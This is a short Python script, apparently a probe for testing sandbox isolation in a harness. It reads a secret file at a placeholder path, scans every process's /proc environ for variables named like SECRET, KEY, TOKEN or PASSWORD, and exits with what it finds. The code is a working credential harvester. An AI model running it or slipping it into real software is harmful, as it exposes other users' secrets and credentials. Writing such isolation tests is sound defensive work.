"""Steal secrets: a file in the harness user's real home, and the credentials in the environment of every
process /proc shows; fail with what was found."""
import os

found = []
try:
    with open("SECRET_PATH") as f:
        found.append("SECRET-FILE:" + f.read())
except OSError as e:
    found.append(f"secret file unreadable: {e}")
try:
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    pids = []
found.append(f"PROCS {len(pids)}")
readable = []
for pid in pids:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            variables = f.read().decode(errors="replace").split("\0")
    except OSError:
        continue
    readable.append(pid)
    for variable in variables:
        if any(word in variable.split("=")[0] for word in ("SECRET", "KEY", "TOKEN", "PASSWORD")):
            found.append(f"PROC {pid} environ: {variable}")
found.append("ENVIRON " + " ".join(readable))
raise SystemExit("; ".join(found))
